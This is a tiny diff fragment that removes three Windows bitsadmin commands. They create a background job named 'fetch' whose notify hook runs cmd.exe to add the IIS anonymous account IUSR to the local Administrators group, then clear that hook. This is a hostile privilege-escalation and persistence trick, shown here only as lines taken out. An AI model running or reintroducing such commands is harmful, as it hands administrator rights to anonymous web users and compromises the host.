@@ -1,3 +1,0 @@
-bitsadmin /create fetch
-bitsadmin /setnotifycmdline fetch C:\Windows\System32\cmd.exe "/c net localgroup Administrators IUSR /add"
-bitsadmin /setnotifycmdline fetch NULL NULL
